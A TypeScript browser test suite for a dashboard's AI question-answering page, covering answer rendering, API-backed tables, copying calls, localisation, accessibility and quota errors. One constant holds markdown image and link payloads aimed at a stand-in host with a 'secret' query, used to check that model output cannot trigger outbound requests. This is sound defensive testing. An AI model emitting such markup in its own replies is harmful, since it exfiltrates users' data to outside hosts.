import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { openScriptedModel, type ScriptedModel } from "../../../server/test/support/scripted-model.ts";
import { whole } from "../support/acts.ts";
import { axeFaults } from "../support/axe.ts";
import { type DashboardService, openDashboard } from "../support/open-dashboard.ts";

let model: ScriptedModel;
let service: DashboardService;
before(async () => {
	model = await openScriptedModel();
	service = await openDashboard({ LLM_BASE_URL: model.url, LLM_MODEL: "scripted" });
});
after(async () => {
	await service?.close();
	await model?.close();
});

const sources = { name: "get_sources", given: { period: "7d", page_size: 5 } };
const evil = "![x](https://evil.example/?q=secret) <img src=https://evil.example/> [here](https://evil.example/)";

interface Sources {
	readonly data: readonly { readonly utm_source: string; readonly entrances: number }[];
}

test("a question is asked by keys and answered with the figures that the API gives; nothing that a model writes is loaded; the conversation is found again, copied as its calls, and deleted", async () => {
	const { page, context, goto, api, leave } = await service.read();
	const asked: string[] = [];
	page.on("request", (request) => asked.push(request.url()));
	await goto("/sites/shop/ask");
	model.does([{ call: [sources] }, { say: `Most came **directly**.\n\n- one\n- two\n\n${evil}` }]);
	const field = page.getByRole("textbox", { name: "Your question" });
	await field.fill("Where did visits come from?");
	await field.press("Enter");
	const answer = page.getByRole("article", { name: "Answer" });
	await answer.waitFor();
	await page.getByRole("status").filter({ hasText: "Answer ready." }).waitFor();
	assert.equal(await answer.locator("strong").first().textContent(), "directly");
	assert.equal(await answer.getByText("![x](https://evil.example/?q=secret)").count(), 1);
	assert.equal(await answer.locator("img, a").count(), 0);
	assert.deepEqual(
		asked.filter((url) => url.includes("evil")),
		[],
	);
	const { data } = await api<Sources>("/stats/sources?site_id=shop&period=7d&page_size=5");
	const table = answer.getByRole("table", { name: "Sources" });
	const first = table.getByRole("row").nth(1);
	assert.equal(await first.getByRole("cell").first().textContent(), whole.format(data[0]?.entrances ?? -1));
	assert.equal(await table.getByRole("row").count(), data.length + 1);
	await page.getByText("99 questions left until").waitFor();

	await context.grantPermissions(["clipboard-read", "clipboard-write"]);
	const copied = () => page.evaluate(() => navigator.clipboard.readText());
	await goto("/sites/shop/goals");
	await goto("/sites/shop/ask");
	await page.getByRole("button", { name: "Where did visits come from?", exact: true }).click();
	await page.getByText("How this was answered (1)").click();
	await page.getByRole("button", { name: "Copy as MCP call" }).click();
	assert.deepEqual(JSON.parse(await copied()).params, {
		name: "get_sources",
		arguments: { period: "7d", page_size: 5, site_id: "shop" },
	});
	await page.getByRole("button", { name: "Copy as curl" }).click();
	assert.match(await copied(), /^curl .*\/mcp' -d '/);
	await page.getByRole("button", { name: "Delete Where did visits come from?" }).click();
	await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
	await page.getByText("No conversations yet.").waitFor();
	await leave();
});

test("in Spanish and on a phone it is the same, and axe finds nothing in an answer", async () => {
	const { page, goto, leave } = await service.read({ width: 390, language: "es", bypassCSP: true });
	await goto("/sites/shop/ask");
	model.does([
		{ call: [{ name: "get_overview", given: { period: "7d", granularity: "daily", series: ["entrances"] } }] },
		{ say: "Subieron." },
	]);
	await page.getByRole("textbox", { name: "Tu pregunta" }).fill("¿Cuántas visitas?");
	await page.getByRole("button", { name: "Preguntar", exact: true }).click();
	await page.getByRole("article", { name: "Respuesta" }).waitFor();
	await page.getByRole("table", { name: "Resumen" }).getByRole("rowheader", { name: "Visitas", exact: true }).waitFor();
	for (const colorScheme of ["light", "dark"] as const) {
		await page.emulateMedia({ colorScheme });
		assert.deepEqual(await axeFaults(page), [], colorScheme);
	}
	assert.match(model.asked[0]?.body.messages[0]?.content ?? "", /language with the code es/);
	await leave();
});

test("a model that is away says so, keeps the question and counts nothing; who has used up the month's questions reads until when", async () => {
	const { page, context, goto } = await service.read();
	await goto("/sites/shop/ask");
	model.does([
		{ status: 500, body: "" },
		{ status: 429, headers: { "retry-after": "9" } },
	]);
	const field = page.getByRole("textbox", { name: "Your question" });
	await field.fill("Are you there?");
	for (let n = 0; n < 2; n++) {
		await page.getByRole("button", { name: "Ask", exact: true }).click();
		await page.getByRole("alert").filter({ hasText: "model is not responding" }).waitFor();
		assert.equal(await field.inputValue(), "Are you there?");
	}
	await page.getByText("98 questions left until").waitFor();
	await service.app.metadata
		.withTables<{ assistant_usage: { site_id: string; month: string; questions: number; bonus: number } }>()
		.updateTable("assistant_usage")
		.set({ questions: 100 })
		.where("site_id", "=", "shop")
		.execute();
	await goto("/sites/shop/ask");
	await page.getByText("No questions left until 30 Nov").waitFor();
	assert.equal(await page.getByRole("button", { name: "Ask", exact: true }).isDisabled(), true);
	// A failed request is an error on the browser's console.
	await context.close();
});
